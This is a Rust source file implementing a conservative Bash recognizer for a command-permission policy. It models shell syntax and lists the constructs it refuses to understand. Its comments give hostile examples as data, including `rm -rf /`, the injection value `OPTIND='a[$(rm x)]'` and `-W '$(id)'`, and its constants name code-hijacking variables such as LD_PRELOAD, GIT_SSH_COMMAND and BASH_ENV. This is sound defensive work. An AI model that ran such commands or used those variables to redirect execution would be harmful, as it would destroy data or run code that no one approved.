//! Conservative Bash recognizer.
//!
//! [`recognize`] reads a Bash command line and either *understands* every byte
//! of it — and then returns every simple command bash would run, in a form the
//! permission rules match — or says which construct it does not model and
//! where ([`Recognition::NotUnderstood`]). The policy allows a command only
//! when it is understood; anything else is at least asked.
//!
//! # What is modelled (understood)
//!
//! - bytes: printable text, tab and newline; any other control byte (`\r`,
//!   NUL, ESC, DEL, ...) is not understood;
//! - lists and pipelines: `;`, `&`, `&&`, `||`, `|`, `|&`, newline;
//! - subshells `( ... )` and groups `{ ...; }` at the start of a command;
//!   the reserved words `!`, `time` (and `time -p`, `time --`, `time -p --`), `if`/`then`/`elif`/
//!   `else`/`fi`, `while`/`until`/`do`/`done` at the start of a command;
//! - comments: `#` at the start of a word, up to the newline;
//! - quoting: `'...'`, `"..."`, backslash escapes, `\`-newline continuation
//!   (removed before anything else is read, as bash does: [`join_continuations`]);
//!   `$'...'` in arguments (kept undecoded; the word is marked dynamic);
//! - parameters: `$name`, `${name}`, `$1`, `${10}`, and the special
//!   parameters `$? $# $$ $! $- $@ $* $0 $_` (also braced); `${#name}` and
//!   `${name<op>word}` with a [`PARAMETER_OPERATORS`] operator and a literal word
//!   (defaults, alternatives, messages, trims: nothing is assigned or evaluated);
//! - `!` anywhere: history expansion is off in the non-interactive shell the sandbox
//!   runs, so it is text;
//! - command substitution `$( ... )` and backticks without backslashes (and,
//!   inside double quotes, without `"`), process substitution `<( ... )` /
//!   `>( ... )`: their commands are recognized recursively and reported;
//! - arithmetic `$(( ... ))` whose body is only digits, blanks, parentheses
//!   and operator characters (no names, no `$`, no subscripts);
//! - redirections `[n]<`, `[n]>`, `[n]>>`, `[n]>|`, `[n]<>`, `&>`, `&>>`,
//!   `<<<` with a target word, and `[n]>&m`, `[n]<&m`, `[n]>&-`, `[n]<&-`
//!   where `m` is only digits; fd duplication and output to `/dev/null`,
//!   `/dev/stdout`, `/dev/stderr` are dropped from the matched text, every
//!   other output redirection marks the command as writing a file, which the policy
//!   judges by the file rules ([`SimpleCommand::files`], [`FileArg::redirect`]);
//! - `NAME=value` / `NAME+=value` prefix assignments (kept in the text; allow rules also
//!   match without them when every name is an [`INERT_VARIABLES`] one), except
//!   a value other than a decimal literal for a variable bash evaluates as
//!   arithmetic ([`EVALUATED_VARIABLES`]; also through `export`, `declare`, ...
//!   and as a `read`/`getopts`/`wait`/`unset` target);
//! - state one command of the line leaves for a later one: after a change of a
//!   [`STEERING_VARIABLES`] name (`PATH`, `LD_PRELOAD`, `GIT_*`, ...) no later
//!   command is understood, after a `cd`/`pushd`/`popd` no relative program
//!   path (`./x`, `bin/x`); `cd` is followed ([`WorkingDirs`]) so each
//!   command's file operands ([`SimpleCommand::files`]) can be judged from
//!   where it may run;
//! - arguments with globs, braces and tildes (they only produce arguments, but
//!   which ones is known only at run time: `{--force,origin}` is two words,
//!   `--forc?` a file name, so such a word counts as computed for deny and ask
//!   rules, [`SimpleCommand::dynamic_at`]).
//!
//! # What is not modelled (the command asks)
//!
//! Everything else, each with an [`Unmodelled`] reason: heredocs (`<<`, `<<-`),
//! `${...}` beyond the forms above (`:=`, substrings, `@P` and other transforms,
//! `${!x}`, subscripts, a word with expansions or quotes), arithmetic with
//! names or substitutions, `((...))`, `$[...]`, `>&word` / `<&word` with a
//! non-digit word, `{var}>` named descriptors, `$"..."`, backticks with
//! backslashes, `case`/`for`/`select`/`[[`/`function`/`coproc` and function
//! definitions, `name=(...)` and `name[...]=` array assignments, `;;`/`;&`,
//! a command word with `$'...'`, a glob, brace or tilde, or blanks in it,
//! the builtins that run or redefine code or change parsing
//! ([`UNMODELLED_BUILTINS`]), the [`RESTRICTED_BUILTINS`] (`exec`, `trap`, `hash`,
//! `history`, `fc`, `set`, the completion builtins, `mapfile`, `command`, ...) in any
//! form but the ones that cannot run code, declaration builtins (`export`, `declare`,
//! ...) with options other than `-i -r -x -g -l -u -p` or computed names (and with `-i`,
//! values other than decimal literals), name-taking builtins (`read`, `unset`, ...) with
//! computed or subscripted names, `test`/`[` with `-v`/`-R`, a computed operator or an
//! operand bash may split (`test_evaluating_argument`), `printf` with options or a computed
//! first argument, a value other than a decimal literal for an
//! [`EVALUATED_VARIABLES`] name (or such a name as a `read`/`getopts`/`wait`/
//! `unset` target), any command after a [`STEERING_VARIABLES`] change, a
//! relative program path after `cd`/`pushd`/`popd`, and input beyond the
//! limits below.
//!
//! The recognizer does not expand variables, globs or aliases (aliases are off
//! in the non-interactive shell the sandbox runs), and it does not see through
//! external wrappers (`env`, `xargs`, `sudo`, `sh -c`): such commands need a
//! rule of their own. When it does not understand a command it still reports
//! every simple command it could find (best effort, erring on splitting too
//! much), so that deny rules keep winning: a denied part denies the whole
//! command even when the rest is not understood. It never panics.

use std::path::{Component, Path, PathBuf};

use serde::Serialize;

use crate::operands::{self, Access, Arg, FileArg};

/// Longest command line (in bytes) the recognizer analyses. Longer input is
/// not understood, so it is never allowed without asking. 64 KiB is far
/// beyond any command a person would review, and bounds the work per call.
pub const MAX_COMMAND_LEN: usize = 64 * 1024;

/// Deepest nesting of subshells / substitutions analysed. Deeper input is
/// not understood. Bounds recursion so hostile input cannot overflow the
/// stack; real commands rarely nest more than three levels.
pub const MAX_NESTING: usize = 32;

/// Most simple commands collected from one command line. Beyond this the
/// command is not understood; bounds memory for pathological input.
pub const MAX_PARTS: usize = 4096;

/// Words that introduce or close a compound command that is modelled; they
/// are stripped from the front of a command so that `if rm -rf /; then ...`
/// is checked as `rm -rf /`.
const LEADING_RESERVED: &[&str] =
    &["{", "}", "!", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time"];

/// Reserved words that start compound commands the recognizer does not model.
const UNMODELLED_KEYWORDS: &[&str] = &["case", "esac", "for", "select", "in", "function", "coproc", "[[", "]]"];

/// Builtins that run text as code, redefine what a name runs, or change how
/// the rest of the line is parsed: a command using them is never understood,
/// whatever the rules say about them.
pub const UNMODELLED_BUILTINS: &[&str] = &["eval", "source", ".", "enable", "builtin", "shopt", "let", "bind"];

/// Builtins understood only in the forms that cannot run code ([`Parser::check_command`]);
/// any other form is [`Unmodelled::BuiltinArguments`]:
/// - `exec` with redirections only (`exec 3<file`, `exec >log`): it changes the shell's
///   descriptors; `exec PROGRAM` replaces the shell with a program no rule was matched for;
/// - `trap` with no arguments, `-l`, `-p [SIGNAL...]`, or `''`/`-` and signal names (ignore
///   or reset): anything else registers code;
/// - `hash` without `-p` (`-p PATH NAME` makes NAME run PATH);
/// - `history` with no arguments, `-c`, `-d N` or a number (history is off in the
///   non-interactive shell; `-s` adds what `fc -s` then runs, `-w`/`-a` write files);
/// - `fc -l` (listing; `fc -s` and `fc -e` run commands from the history);
/// - `alias`/`unalias` (aliases are not expanded in the non-interactive shell; a `set -o
///   posix` or `shopt -s expand_aliases` that would turn them on is itself asked);
/// - `compgen`/`complete`/`compopt` without `-C`/`-F` (a command or function to run) and
///   with a literal `-W` word list (`-W '$(id)'` is expanded, running `id`);
/// - `mapfile`/`readarray` without `-C` (a callback), into a plain name bash does not
///   evaluate;
/// - `command -v`/`-V` (a lookup; `command PROGRAM` runs one);
/// - `set` with the option letters of [`SET_HARMLESS_LETTERS`] and the `-o` names of
///   [`SET_HARMLESS_WORDS`], then positional parameters.
pub const RESTRICTED_BUILTINS: &[&str] = &[
    "exec",
    "trap",
    "hash",
    "history",
    "fc",
    "alias",
    "unalias",
    "compgen",
    "complete",
    "compopt",
    "mapfile",
    "readarray",
    "command",
    "set",
];

/// Declaration builtins: understood only when every argument is a literal
/// `NAME` or `NAME=value` (options such as `-i`, `-n`, `-a` make later
/// assignments and expansions evaluate code).
const DECLARATION_BUILTINS: &[&str] = &["declare", "typeset", "local", "readonly", "export"];

/// Builtins whose arguments name variables (a subscript in a name is
/// evaluated as arithmetic): understood only when no argument is computed or
/// contains `[`.
const NAME_TAKING_BUILTINS: &[&str] = &["read", "unset", "getopts", "wait"];

/// Variables bash evaluates as arithmetic when a value is assigned to them, read from
/// bash 5.3's `variables.c`: `OPTIND`, `RANDOM`, `SRANDOM`, `BASHPID`, `HISTCMD`, `PPID`,
/// `UID`, `EUID` and (interactive) `MAILCHECK` are created with the integer attribute, and
/// `SECONDS` gets it when it is first read (`get_seconds` sets it); an assignment to an
/// integer variable runs `evalexp` on the value, so `OPTIND='a[$(rm x)]'` runs `rm x`
/// (the subscript is evaluated), and `RANDOM=a` evaluates whatever `a` holds. `LINENO`,
/// `BASH_SUBSHELL` (parsed as numbers), `BASH_MONOSECONDS`, `EPOCHSECONDS` and
/// `EPOCHREALTIME` (assignments ignored) are dynamic numeric variables that do not
/// evaluate today; they are listed so that assigning them stays asked whatever a bash
/// version does. An assignment of anything but a plain decimal literal to one of these —
/// by `NAME=`, `export`/`declare`/`typeset`/`local`/`readonly`, or as the target of `read`,
/// `getopts`, `wait -p`, `unset` — is not understood.
pub const EVALUATED_VARIABLES: &[&str] = &[
    "OPTIND",
    "RANDOM",
    "SRANDOM",
    "SECONDS",
    "BASHPID",
    "HISTCMD",
    "PPID",
    "UID",
    "EUID",
    "MAILCHECK",
    "LINENO",
    "BASH_SUBSHELL",
    "BASH_MONOSECONDS",
    "EPOCHSECONDS",
    "EPOCHREALTIME",
];

/// Variables that change which program a later command name finds, or what code a later
/// program runs or loads: the search path (`PATH`, `EXECIGNORE`, `CDPATH` for `cd`), shell
/// startup (`BASH_ENV`, `ENV`, `SHELLOPTS`, `BASHOPTS`), where tools read configuration
/// that runs commands (`HOME`, `XDG_CONFIG_HOME`: git's `core.fsmonitor`), and interpreter
/// and pager hooks. Changing one (an assignment, `export`, `declare`, ..., `read`, `unset`)
/// and then running any later command in the same command line is not understood: the
/// later command's rule was written for the program and behaviour it names, not for one
/// the line itself redirected (`export PATH=/workspace/bin:$PATH; git status`). See also
/// [`STEERING_PREFIXES`].
pub const STEERING_VARIABLES: &[&str] = &[
    "PATH",
    "EXECIGNORE",
    "CDPATH",
    "BASH_ENV",
    "ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "HOME",
    "XDG_CONFIG_HOME",
    "XDG_CONFIG_DIRS",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PYTHONUSERBASE",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PERL5OPT",
    "PERL5LIB",
    "PERLLIB",
    "RUBYOPT",
    "RUBYLIB",
    "PAGER",
    "MANPAGER",
    "EDITOR",
    "VISUAL",
    "BROWSER",
    "LESSOPEN",
    "LESSCLOSE",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "CLASSPATH",
    "MAKEFLAGS",
    "GCONV_PATH",
    "SHELL",
    "KUBE_EDITOR",
    "DIFFPROG",
    "SUDO_EDITOR",
    "FCEDIT",
    "SYSTEMD_EDITOR",
    "SYSTEMD_PAGER",
    "PSQL_PAGER",
    "PSQL_EDITOR",
    "BAT_PAGER",
    "DELTA_PAGER",
    "TERMINAL",
];

/// `NAME=value` prefixes that change only how a program formats or reports what it does,
/// never which program runs or what code it loads: the time zone, the locale (`LC_*`),
/// colour and terminal size hints, and debug switches (any `*_DEBUG`). With only such
/// prefixes in front, a command matches the allow rules of the command without them
/// (`TZ=Japan date` under `Bash(date:*)`); any other prefix stays part of the text the
/// rules match (a rule must name it), and a [`STEERING_VARIABLES`] prefix is not
/// understood at all. The locale and time zone select data files from the system's own
/// directories, not code.
pub const INERT_VARIABLES: &[&str] = &[
    "TZ",
    "LANG",
    "LANGUAGE",
    "NO_COLOR",
    "FORCE_COLOR",
    "CLICOLOR",
    "CLICOLOR_FORCE",
    "COLUMNS",
    "LINES",
    "TERM",
    "COLORTERM",
    "DEBUG",
    "VERBOSE",
];

/// Name prefixes of [`INERT_VARIABLES`]-like names: the locale categories (`LC_ALL`,
/// `LC_TIME`, ...).
pub const INERT_PREFIXES: &[&str] = &["LC_"];

/// Name suffixes of [`INERT_VARIABLES`]-like names: debug switches (`NODE_DEBUG`,
/// `RUST_DEBUG`, ...). A name that is also steering (`GIT_DEBUG` falls under `GIT_`) is not
/// inert.
pub const INERT_SUFFIXES: &[&str] = &["_DEBUG"];

/// Is `name` one of the [`INERT_VARIABLES`] (and not steering)?
pub fn is_inert_variable(name: &str) -> bool {
    let listed = INERT_VARIABLES.contains(&name)
        || INERT_PREFIXES.iter().any(|p| name.starts_with(p) && name.len() > p.len())
        || INERT_SUFFIXES.iter().any(|p| name.ends_with(p) && name.len() > p.len());
    listed && steering(name.as_bytes()).is_none() && evaluated(name.as_bytes()).is_none()
}

/// Prefixes of [`STEERING_VARIABLES`]-like names: the dynamic loader (`LD_PRELOAD`), git's
/// own environment (`GIT_CONFIG_*`, `GIT_EXEC_PATH`, `GIT_SSH_COMMAND`, ...), npm, cargo,
/// rustc wrappers and pip.
pub const STEERING_PREFIXES: &[&str] = &["LD_", "GIT_", "npm_config_", "NPM_CONFIG_", "CARGO_", "RUSTC", "PIP_"];

/// Builtins that change the shell's working directory: after one, a relative program path
/// (`./x`, `bin/x`) is found from where it went, and relative file operands are judged
/// against every directory the line may be in ([`WorkingDirs`]).
const DIRECTORY_BUILTINS: &[&str] = &["cd", "pushd", "popd"];

/// Most working directories followed for one command line ([`WorkingDirs::Known`]); past it
/// the directory is unknown. Each `cd` can double the candidates (it may fail); 16 covers
/// four `cd`s, more than real command lines hold.
pub const MAX_WORKING_DIRS: usize = 16;

/// `set -o` names that change neither what runs nor how the rest of the line is parsed:
/// error handling, export of later assignments, line editing, notifications, no-clobber,
/// no-glob, echoing. Not here: `histexpand`, `history`, `keyword` (assignments anywhere),
/// `posix` (turns alias expansion on), `xtrace` (expands `PS4`), `physical` (changes `cd`).
pub const SET_HARMLESS_WORDS: &[&str] = &[
    "pipefail",
    "errexit",
    "nounset",
    "allexport",
    "vi",
    "emacs",
    "notify",
    "noclobber",
    "noglob",
    "verbose",
    "errtrace",
    "hashall",
    "ignoreeof",
    "noexec",
];

/// `set` option letters of the same kind as [`SET_HARMLESS_WORDS`] (`-e`, `-u`, `-a`,
/// `-b`, `-f`, `-C`, `-n`, `-v`, `-h`, `-E`; `o` takes a [`SET_HARMLESS_WORDS`] name).
pub const SET_HARMLESS_LETTERS: &[u8] = b"euabfCnvhEo";

/// Operators of `test`/`[` that take one operand and never evaluate it (`-v` and `-R`
/// evaluate a subscript in the name they test, so they are not here).
pub const TEST_UNARY: &[&str] = &[
    "-a", "-b", "-c", "-d", "-e", "-f", "-g", "-h", "-k", "-p", "-r", "-s", "-t", "-u", "-w", "-x", "-G", "-L", "-N",
    "-O", "-S", "-z", "-n", "-o", "!",
];

/// Binary operators of `test`/`[`: string and file comparisons and the integer ones, whose
/// operands `test` reads as decimal numbers without evaluating them (only `[[` and `(( ))`
/// evaluate arithmetic).
pub const TEST_BINARY: &[&str] =
    &["=", "==", "!=", "<", ">", "-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-nt", "-ot", "-ef"];

/// Declaration builtin options understood: integer (`-i`: its values must then be decimal
/// literals, and the names stay evaluated for the rest of the line), read-only, export,
/// global, lower/upper case, print.
const DECLARATION_LETTERS: &[u8] = b"irxglup";

/// Output redirection targets (and write operands: `tee /dev/null`) that write nothing
/// anyone can read back.
const HARMLESS_OUTPUT_TARGETS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr"];

/// `${name<op>word}` operators understood when the word is literal
/// ([`is_parameter_word_byte`]): use a default (`:-`, `-`), an alternative (`:+`, `+`),
/// fail with a message (`:?`, `?`), trim a pattern (`#`, `##`, `%`, `%%`). Not `:=`/`=`
/// (assigns, so an evaluated or steering name would change), substrings (offsets are
/// arithmetic), `/` replacement, case and `@` transforms.
const PARAMETER_OPERATORS: &[&str] = &[":-", ":+", ":?", "##", "%%", "-", "+", "?", "#", "%"];

/// Bytes of a literal word in `${name<op>word}`: no quote, `$`, backtick, backslash, brace,
/// `!` or blank, so nothing in it expands but a pattern's `*`, `?` and `[...]` (for a
/// trim) or a tilde.
fn is_parameter_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || b"_./,:@%+=-*?[]^#~".contains(&c)
}

/// Special parameters (`$?`, `${#}`, ...).
const SPECIAL_PARAMS: &[u8] = b"?#$!-@*0_";

/// Why a command was not understood.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case", tag = "kind", content = "name")]
pub enum Unmodelled {
    /// Longer than [`MAX_COMMAND_LEN`].
    TooLong,
    /// Nested deeper than [`MAX_NESTING`].
    TooDeep,
    /// More than [`MAX_PARTS`] simple commands.
    TooManyCommands,
    /// A control byte other than tab and newline (`\r`, NUL, ESC, DEL, ...).
    ControlCharacter,
    /// An unterminated quote, substitution or backtick.
    Unterminated,
    /// A `(` or `)` that does not pair up, or a `(` after words.
    UnbalancedParenthesis,
    /// A redirection without a target word.
    MissingRedirectTarget,
    /// A here-document (`<<WORD`, `<<-WORD`).
    Heredoc,
    /// `${...}` with anything beyond a plain name.
    ParameterOperator,
    /// Arithmetic with names, substitutions or subscripts, `((...))`, `$[...]`.
    Arithmetic,
    /// `>&word` / `<&word` where the word is not only digits or `-`.
    FdDuplicationWord,
    /// A `{var}>` descriptor-allocating redirection.
    NamedFd,
    /// Backticks containing a backslash (or a `"` inside double quotes).
    BacktickEscape,
    /// `$"..."` locale translation.
    LocaleString,
    /// A compound command or keyword that is not modelled.
    Keyword(&'static str),
    /// A function definition.
    FunctionDefinition,
    /// `name=(...)` or `name[...]=value`.
    ArrayAssignment,
    /// `;;`, `;&` or `;;&` outside a modelled `case`.
    CaseTerminator,
    /// A comment ending in a backslash.
    CommentContinuation,
    /// A command word containing `$'...'`.
    CommandWordQuoting,
    /// A command word containing a glob, brace or tilde.
    CommandWordPattern,
    /// A command word containing a blank.
    CommandWordBlank,
    /// A builtin that runs or redefines code or changes parsing.
    Builtin(&'static str),
    /// A builtin whose arguments could evaluate code (options, computed or
    /// subscripted names).
    BuiltinArguments(&'static str),
    /// An assignment of anything but a decimal literal to a variable bash evaluates as
    /// arithmetic ([`EVALUATED_VARIABLES`]), or such a variable as a `read`/`getopts`/...
    /// target.
    EvaluatedAssignment(&'static str),
    /// A command after one that changed how names are found or what programs run: a
    /// [`STEERING_VARIABLES`] variable, or (`cd`) a relative program path after a `cd`.
    ResolutionChanged(&'static str),
}

impl std::fmt::Display for Unmodelled {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Unmodelled::TooLong => write!(f, "command longer than {MAX_COMMAND_LEN} bytes"),
            Unmodelled::TooDeep => write!(f, "nesting deeper than {MAX_NESTING}"),
            Unmodelled::TooManyCommands => write!(f, "more than {MAX_PARTS} commands"),
            Unmodelled::ControlCharacter => f.write_str("a control character"),
            Unmodelled::Unterminated => f.write_str("an unterminated quote, substitution or backtick"),
            Unmodelled::UnbalancedParenthesis => f.write_str("an unbalanced parenthesis"),
            Unmodelled::MissingRedirectTarget => f.write_str("a redirection without a target"),
            Unmodelled::Heredoc => f.write_str("a here-document"),
            Unmodelled::ParameterOperator => f.write_str("a `${...}` expansion beyond a plain name"),
            Unmodelled::Arithmetic => f.write_str("arithmetic with names or substitutions"),
            Unmodelled::FdDuplicationWord => f.write_str("`>&word` / `<&word` with a non-digit word"),
            Unmodelled::NamedFd => f.write_str("a `{var}>` redirection"),
            Unmodelled::BacktickEscape => f.write_str("backticks with escapes or quotes"),
            Unmodelled::LocaleString => f.write_str("a `$\"...\"` string"),
            Unmodelled::Keyword(k) => write!(f, "the keyword `{k}`"),
            Unmodelled::FunctionDefinition => f.write_str("a function definition"),
            Unmodelled::ArrayAssignment => f.write_str("an array assignment"),
            Unmodelled::CaseTerminator => f.write_str("`;;` / `;&` outside a case"),
            Unmodelled::CommentContinuation => f.write_str("a comment ending in a backslash"),
            Unmodelled::CommandWordQuoting => f.write_str("`$'...'` in a command word"),
            Unmodelled::CommandWordPattern => f.write_str("a glob, brace or tilde in a command word"),
            Unmodelled::CommandWordBlank => f.write_str("a blank inside a command word"),
            Unmodelled::Builtin(b) => write!(f, "the builtin `{b}`"),
            Unmodelled::BuiltinArguments(b) => {
                write!(f, "arguments of `{b}` that could evaluate code")
            }
            Unmodelled::EvaluatedAssignment(v) => {
                write!(f, "a value for `{v}`, which bash evaluates as arithmetic (only a decimal number is understood)")
            }
            Unmodelled::ResolutionChanged("cd") => {
                f.write_str("a relative program path after a `cd` in the same command line")
            }
            Unmodelled::ResolutionChanged(v) => {
                write!(
                    f,
                    "a command after `{v}` was changed in the same command line (it changes what later commands run)"
                )
            }
        }
    }
}

impl Unmodelled {
    /// The text is malformed shell (as opposed to well-formed but not
    /// modelled): unterminated, unbalanced, a dangling redirection, too big.
    pub fn is_malformed(self) -> bool {
        matches!(
            self,
            Unmodelled::TooLong
                | Unmodelled::TooDeep
                | Unmodelled::TooManyCommands
                | Unmodelled::Unterminated
                | Unmodelled::UnbalancedParenthesis
                | Unmodelled::MissingRedirectTarget
        )
    }
}

/// Where and why a command was not understood.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub struct NotUnderstood {
    /// The first construct that is not modelled.
    pub reason: Unmodelled,
    /// Its byte offset in the command.
    pub at: usize,
}

impl std::fmt::Display for NotUnderstood {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} at byte {}", self.reason, self.at)
    }
}

/// One simple command found in a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// Dequoted words; kept redirections appear as an operator word followed by
    /// its target word. Substitutions appear as the placeholder `$(...)`.
    pub words: Vec<String>,
    /// The command word (the first word after `NAME=value` assignments)
    /// contains an expansion (`$x`, `$(...)`, backticks), so what runs cannot
    /// be known from the text.
    pub dynamic_command: bool,
    /// An output redirection writes to a file (anything but `/dev/null` and
    /// fd duplication).
    pub writes_file: bool,
    /// The words that run (argv): [`Self::words`] without `NAME=value` prefixes and
    /// redirections. Deny and ask rules are matched against these too, so neither an
    /// assignment nor a redirection in front (`A= rm -rf /`, `<in rm -rf /`) hides the
    /// command from them.
    pub argv: Vec<String>,
    /// Byte offset in [`Self::argv_key`] where the first expansion of a word of
    /// [`Self::argv`] begins (`$x`, `"$(...)"`, backticks, an undecoded `$'...'`, and an
    /// unquoted brace, glob or tilde expansion point: `{a,b}`, `*`, `?`, `[...]`, `~`): from
    /// there on, the words that run are known only at run time, so a deny or ask rule that
    /// the rest could still match must be assumed to match
    /// ([`crate::matcher::BashPattern::could_match_after`]).
    pub dynamic_at: Option<usize>,
    /// The files the command reads or writes that the recognizer can name: its
    /// redirections (`< f`, `> f`, `>> f`, `<> f`, `&> f`, ...) and, for a program of
    /// [`operands::FILE_COMMAND_NAMES`], its file operands. Paths as written; relative ones
    /// are relative to each of [`Self::dirs`].
    pub files: Vec<FileArg>,
    /// The working directories the command may run in.
    pub dirs: WorkingDirs,
    /// What allow rules are matched against besides [`Self::words`]: the words without
    /// redirections (a redirection's file is judged by the file rules, not by the command's
    /// rule) and, when every `NAME=value` prefix is an [`INERT_VARIABLES`] name, without
    /// the prefixes.
    pub rule_words: Vec<String>,
}

/// Where a command of a line may run, as far as the line's own `cd`s tell: the call starts
/// in the session's working directory, and each `cd DIR` adds `DIR` from every directory
/// so far (it may fail, or run in a subshell, and leave the directory as it was).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub enum WorkingDirs {
    /// Directories relative to the call's working directory (the empty path: that
    /// directory) or absolute, each as bash's logical `cd` makes it (`..` taken lexically).
    Known(Vec<PathBuf>),
    /// A `cd` the recognizer could not follow came before (a computed directory, `cd -`,
    /// `popd`, no argument, `-P`, more than [`MAX_WORKING_DIRS`]).
    Unknown,
}

impl WorkingDirs {
    fn start() -> Self {
        WorkingDirs::Known(vec![PathBuf::new()])
    }

    /// After `cd dir` (`None`: a `cd` that cannot be followed).
    fn cd(&mut self, dir: Option<&str>) {
        let WorkingDirs::Known(dirs) = self else { return };
        // `..` after a name: when the lexical result does not exist bash's `cd` retries the
        // path physically, through links (`link/..`), which text cannot follow.
        let followable = dir.filter(|d| {
            let mut named = false;
            Path::new(d).components().all(|c| {
                named |= matches!(c, Component::Normal(_));
                !(named && c == Component::ParentDir)
            })
        });
        let Some(dir) = followable else { return *self = WorkingDirs::Unknown };
        let added: Vec<PathBuf> = dirs.iter().map(|d| d.join(dir)).collect();
        for a in added {
            if !dirs.contains(&a) {
                dirs.push(a);
            }
        }
        if dirs.len() > MAX_WORKING_DIRS {
            *self = WorkingDirs::Unknown;
        }
    }

    /// The absolute directories, given the call's working directory `start` (absolute);
    /// `None` when unknown.
    pub fn resolve(&self, start: &Path) -> Option<Vec<PathBuf>> {
        match self {
            WorkingDirs::Known(dirs) => Some(dirs.iter().map(|d| crate::matcher::normalize_path(start, d)).collect()),
            WorkingDirs::Unknown => None,
        }
    }
}

/// One file a command line reads or writes, at a path the host can look up: what
/// [`shell_files`] returns.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ShellFile {
    /// Absolute: the working directory (normalised, as bash's `cd` keeps it) joined with
    /// the operand as written (not normalised: the kernel resolves its `..` through links).
    pub path: String,
    /// How the command uses it.
    pub access: Access,
}

impl FileArg {
    /// The paths this operand may name when the call starts in `start` (absolute), one per
    /// working directory the command may be in ([`ShellFile::path`]); `None` when the path
    /// is computed at run time or relative to an unknown directory.
    pub fn paths(&self, dirs: &WorkingDirs, start: &Path) -> Option<Vec<PathBuf>> {
        if self.computed {
            return None;
        }
        let operand = Path::new(&self.path);
        if operand.is_absolute() {
            return Some(vec![operand.to_path_buf()]);
        }
        Some(dirs.resolve(start)?.into_iter().map(|d| d.join(operand)).collect())
    }
}

/// Every file the recognised commands and redirections of `command` read or write whose
/// path is known from the text, for a call starting in `cwd` (absolute): what the host
/// looks up in the sandbox (links, hard links) before the gate judges the call (see
/// [`crate::policy::ResolvedFile`]). Duplicates are dropped; order is the command's.
pub fn shell_files(command: &str, cwd: &Path) -> Vec<ShellFile> {
    let mut out: Vec<ShellFile> = Vec::new();
    for part in recognize(command).commands() {
        for f in &part.files {
            for p in f.paths(&part.dirs, cwd).unwrap_or_default() {
                let file = ShellFile { path: p.to_string_lossy().into_owned(), access: f.access };
                if !out.contains(&file) {
                    out.push(file);
                }
            }
        }
    }
    out
}

pub use crate::matcher::WORD_BREAK;

/// `words` joined by [`WORD_BREAK`].
fn key_of(words: &[String]) -> String {
    let mut key = String::new();
    for (i, w) in words.iter().enumerate() {
        if i > 0 {
            key.push(WORD_BREAK);
        }
        key.push_str(w);
    }
    key
}

/// Where the first expansion begins in the match key of `words` (see
/// [`SimpleCommand::dynamic_at`]); counted on the same lossy text the key is made of.
fn dynamic_offset(words: &[&Word]) -> Option<usize> {
    let mut offset = 0;
    for (i, w) in words.iter().enumerate() {
        if i > 0 {
            offset += WORD_BREAK.len_utf8();
        }
        if let Some(from) = w.expands_from() {
            let fixed = w.text.get(..from).unwrap_or_default();
            // A cut inside a character reads as U+FFFD: never past the real boundary.
            return Some(offset + String::from_utf8_lossy(fixed).trim_end_matches('\u{fffd}').len());
        }
        offset += String::from_utf8_lossy(&w.text).len();
    }
    None
}

impl SimpleCommand {
    /// The canonical text shown to people: words joined by one space.
    pub fn text(&self) -> String {
        self.words.join(" ")
    }

    /// What permission rules match: the words joined by [`WORD_BREAK`], so that a rule's
    /// word boundaries are the command's (argv) word boundaries.
    pub fn match_key(&self) -> String {
        key_of(&self.words)
    }

    /// Every key an allow rule may match ([`Self::match_key`] and [`Self::rule_words`] as a
    /// key): a command is allowed when any allow rule matches any of them, whichever comes
    /// first in the list.
    pub fn allow_keys(&self) -> Vec<String> {
        let mut keys = vec![self.match_key()];
        let plain = key_of(&self.rule_words);
        if plain != keys[0] {
            keys.push(plain);
        }
        keys
    }

    /// What deny and ask rules are also matched against, each with where its computed
    /// words begin ([`Self::dynamic_at`]): [`Self::argv`] as a match key, and, when the
    /// command word is a path (`/bin/rm`, `./rm`), the same with the program's file name
    /// (`rm`), so naming the program by its path does not slip past `Bash(rm:*)`.
    pub fn argv_keys(&self) -> Vec<(String, Option<usize>)> {
        let mut keys = vec![(key_of(&self.argv), self.dynamic_at)];
        if let Some((program, rest)) = self.argv.split_first()
            && let Some((dir, name)) = program.rsplit_once('/')
            && !name.is_empty()
        {
            let shift = dir.len() + 1;
            let dynamic_at = self.dynamic_at.map(|at| at.saturating_sub(shift));
            let words: Vec<String> = std::iter::once(name.to_owned()).chain(rest.iter().cloned()).collect();
            keys.push((key_of(&words), dynamic_at));
        }
        keys
    }
}

/// Result of [`recognize`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Recognition {
    /// Every byte was understood; these are all the simple commands bash
    /// would run, in source order (substitutions before the command that
    /// contains them).
    Understood(Vec<SimpleCommand>),
    /// Something is not modelled. `seen` holds the simple commands found on
    /// a best-effort basis: good for deny rules, never for allowing.
    NotUnderstood {
        /// Where and why.
        why: NotUnderstood,
        /// Commands found anyway (possibly split too much).
        seen: Vec<SimpleCommand>,
    },
}

impl Recognition {
    /// The commands found (all of them when understood, best effort if not).
    pub fn commands(&self) -> &[SimpleCommand] {
        match self {
            Recognition::Understood(c) => c,
            Recognition::NotUnderstood { seen, .. } => seen,
        }
    }

    /// Why the command was not understood, if it was not.
    pub fn not_understood(&self) -> Option<NotUnderstood> {
        match self {
            Recognition::Understood(_) => None,
            Recognition::NotUnderstood { why, .. } => Some(*why),
        }
    }
}

/// Recognize a command line. Never panics.
pub fn recognize(command: &str) -> Recognition {
    if command.len() > MAX_COMMAND_LEN {
        return Recognition::NotUnderstood {
            why: NotUnderstood { reason: Unmodelled::TooLong, at: MAX_COMMAND_LEN },
            seen: Vec::new(),
        };
    }
